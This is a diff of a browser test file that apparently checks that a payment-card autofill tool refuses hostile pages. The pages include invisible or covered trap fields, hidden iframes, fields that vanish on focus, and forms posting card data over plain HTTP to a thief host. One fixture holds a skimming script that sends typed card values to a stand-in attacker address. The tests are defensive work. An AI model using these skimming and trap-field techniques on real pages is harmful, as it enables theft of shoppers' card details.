@@ -1,8 +1,9 @@
 // Pages that mean harm: what they fake, hide, move or flood gets them nothing.
 import { createServer, type Server } from 'node:http';
-import type { Page } from 'puppeteer';
+import type { Frame, Page } from 'puppeteer';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { keptBy, openPayments, setAutoOpen } from '../world/checkout.ts';
+import { fillPage } from '../world/filling.ts';
 import { listenOn } from '../world/listen.ts';
 import { press, shown } from '../world/shopper.ts';
 import { World } from '../world/world.ts';
@@ -43,11 +44,12 @@ async function open(body: string): Promise<Page> {
   return page;
 }
 
-/** Buys there; answers what each field of the page then holds. */
-async function buy(page: Page): Promise<Record<string, string>> {
+/** Buys there, and looks at the card's screen; answers what each field of the page then holds. */
+async function buy(page: Page, look?: (popup: Page) => Promise<void>): Promise<Record<string, string>> {
   const popup = await world.shopper.openPopup(page);
   await world.shopper.confirm(popup);
   await shown(popup, 'Save the receipt');
+  await look?.(popup);
   await press(popup, 'Close this card').catch(() => undefined);
   await shown(popup, 'Send code to');
   return page.evaluate(() =>
@@ -60,7 +62,25 @@ async function buy(page: Page): Promise<Record<string, string>> {
   );
 }
 
-test('fields that nobody can see are not filled', async () => {
+/** What did not land can be copied from its line; what was copied is caught before the clipboard. */
+async function copyTheName(popup: Page): Promise<void> {
+  await shown(popup, 'name on the card: copy it yourself');
+  const copied = popup.evaluate(
+    () =>
+      new Promise((done) => {
+        navigator.clipboard.writeText = async (text) => done(text);
+      }),
+  );
+  await popup.click('button[aria-label="Copy the name on the card"]');
+  expect(await copied).toBe('Ada Example');
+}
+
+/** What the fields of a page or frame hold. */
+function valuesIn(where: Page | Frame): Promise<string[]> {
+  return where.$$eval('input', (inputs) => inputs.map(({ value }) => value));
+}
+
+test('fields that nobody can see, and those of a stranger, are not filled', async () => {
   const trap = (id: string, style: string) =>
     `<div style="${style}"><input id="${id}" autocomplete="cc-name" style="width:200px"></div>`;
   const page = await open(`${TOTAL}${FIELDS}
@@ -69,13 +89,27 @@ test('fields that nobody can see are not filled', async () => {
     ${trap('nearly', 'opacity:0.02')}
     ${trap('invisible', 'visibility:hidden')}
     ${trap('gone', 'display:none')}
+    ${trap('filtered', 'filter:opacity(1%)')}
+    ${trap('clipped', 'clip-path:inset(50%)')}
+    ${trap('cut', 'width:0;height:0;overflow:hidden')}
+    ${trap('shrunk', 'transform:scale(0)')}
+    ${trap('behind', 'position:relative;z-index:-1')}
+    <div style="position:relative;background:white;margin-top:-40px;height:60px">Thank you for shopping here</div>
+    <input id="kept" type="hidden" name="cc-number" autocomplete="cc-number">
+    <input id="ticked" type="checkbox" name="cc-number" autocomplete="cc-number" value="">
+    <iframe src="http://thief.localhost:${port}/form" width="600" height="200"></iframe>
     <input id="dot" autocomplete="cc-name" style="width:1px;height:1px;padding:0;border:0">
     <div style="position:relative;width:300px;height:40px"><input id="covered" autocomplete="cc-name" style="position:absolute;inset:0">
       <div style="position:absolute;inset:0;background:white">A picture</div></div>`);
-  const held = await buy(page);
-  expect(held['number']).toMatch(/^\d{16}$/);
-  for (const id of ['offscreen', 'transparent', 'nearly', 'invisible', 'gone', 'dot', 'covered'])
-    expect(held[id], id).toBe('');
+  pages.set('/form', FIELDS);
+  const frame = await page.waitForFrame((one) => one.url().endsWith('/form'));
+  await frame.goto(frame.url());
+  const { number, expiry, cvc, ...traps } = await buy(page, copyTheName);
+  expect(number).toMatch(/^\d{16}$/);
+  expect([expiry, cvc].join(' ')).toMatch(/^\d\d\/\d\d \d{3}$/);
+  expect(traps).toEqual(Object.fromEntries(Object.keys(traps).map((id) => [id, ''])));
+  expect(Object.keys(traps)).toHaveLength(14);
+  expect(await valuesIn(frame)).toEqual(['', '', '']);
   await page.close();
 });
 
@@ -156,5 +190,84 @@ test('a page that never stops changing is looked at rarely, and works', async ()
   expect((after.ScriptDuration ?? 0) - (before.ScriptDuration ?? 0)).toBeLessThan(1.5);
   const popup = await world.shopper.openPopup(page);
   await shown(popup, '42.50');
+  await page.close();
+});
+
+test('frames of the shop that nobody can see are not filled', async () => {
+  pages.set('/form', FIELDS);
+  const page =
+    await open(`${FIELDS}<iframe src="/form" style="opacity:0"></iframe><div style="opacity:0.01"><iframe src="/form"></iframe></div>
+    <iframe src="/form" style="position:absolute;left:-9999px"></iframe><iframe src="/form" style="visibility:hidden"></iframe>
+    <iframe src="/form" style="width:1px;height:1px"></iframe>
+    <div style="width:0;height:0;overflow:hidden"><iframe src="/form"></iframe></div>
+    <p style="height:3000px"></p><iframe id="seen" src="/form" width="600"></iframe>`);
+  await fillPage(world.browser, page);
+  const seen = await (await page.$('#seen'))?.contentFrame();
+  for (const frame of page.frames()) {
+    const isSeen = frame === page.mainFrame() || frame === seen;
+    const styled = await (await frame.frameElement())?.evaluate((one) => one.outerHTML);
+    expect((await valuesIn(frame)).join('') !== '', styled ?? 'the page').toBe(isSeen);
+  }
+  await page.close();
+});
+
+test('a field that is hidden, or changed for another, as soon as the keyboard enters it is not filled', async () => {
+  const page = await open(`${FIELDS}<script>
+    const [number, expiry, cvc] = document.querySelectorAll('input');
+    number.addEventListener('focus', () => { number.style.position = 'absolute'; number.style.left = '-9999px'; });
+    expiry.addEventListener('focus', () => { expiry.type = 'hidden'; });
+    cvc.addEventListener('focus', () => { cvc.remove(); });
+  </script>`);
+  const [number, expiry, cvc] = await page.$$('input');
+  expect(await fillPage(world.browser, page)).toEqual({ number: 'rejected', expiry: 'rejected' });
+  for (const field of [number, expiry, cvc])
+    expect(await field?.evaluate((one) => (one as HTMLInputElement).value)).toBe('');
+  await page.close();
+});
+
+test('a page that takes the card out of its fields at once is told of', async () => {
+  const page = await open(`${FIELDS}<script>for (const field of document.querySelectorAll('input'))
+    field.addEventListener('input', () => { new Image().src = 'http://thief.localhost:9/?' + field.value; field.value = ''; });</script>`);
+  const gone = { number: 'emptied', expiry: 'emptied', cvc: 'emptied' };
+  expect(await fillPage(world.browser, page)).toEqual(gone);
+  await page.close();
+});
+
+test('a form that would send the card unencrypted gets nothing, whatever its fields are called', async () => {
+  const insecure = [
+    'action="http://thief.example/take"',
+    'action="https://ok.example"><button formaction="http://thief.example">Pay</button',
+  ];
+  for (const attributes of insecure) {
+    const page =
+      await open(`<form ${attributes}><input name="action" type="hidden"><input name="getAttribute" type="hidden">
+      <input name="querySelectorAll" type="hidden">${FIELDS}</form>`);
+    const unsafe = { number: 'unsafe', expiry: 'unsafe', cvc: 'unsafe' };
+    expect(await fillPage(world.browser, page)).toEqual(unsafe);
+    expect((await valuesIn(page)).join('')).toBe('');
+    await page.close();
+  }
+});
+
+test('fields that come and go at every frame keep nobody waiting', async () => {
+  const page = await open(`<div id="form"></div><script>
+    const make = () => { form.innerHTML = '<p>' + ${JSON.stringify(FIELDS)} + '</p>'; };
+    make(); (function again() { make(); requestAnimationFrame(again); })();
+  </script>`);
+  const outcomes = Object.values(await fillPage(world.browser, page));
+  expect(outcomes.filter((one) => one === 'altered' || one === 'unsafe')).toEqual([]);
+  await page.close();
+});
+
+test('a page of a hundred thousand nodes is read and filled', async () => {
+  const page = await open(`${TOTAL}${FIELDS}<script>
+    const many = document.createDocumentFragment();
+    for (let i = 0; i < 1e5; i += 1) many.append(document.createElement('i'));
+    document.body.append(many);
+  </script>`);
+  const popup = await world.shopper.openPopup(page);
+  await shown(popup, '42.50');
+  await world.browser.closePopup();
+  expect(await fillPage(world.browser, page)).toEqual({ number: 'filled', expiry: 'filled', cvc: 'filled' });
   await page.close();
 });
